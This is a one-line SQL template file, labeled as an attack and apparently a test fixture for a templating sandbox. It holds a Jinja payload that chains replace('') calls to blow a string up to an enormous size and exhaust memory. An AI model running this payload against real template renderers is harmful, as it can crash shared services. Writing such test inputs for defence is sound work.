-- ATTACK (.sql file): replace('', ...) multiplies a text by itself twice
{% set a = 'x' * 1000 %}{% set b = a|replace('', a) %}{% set c = b|replace('', b) %}SELECT {{ c|length }} AS x
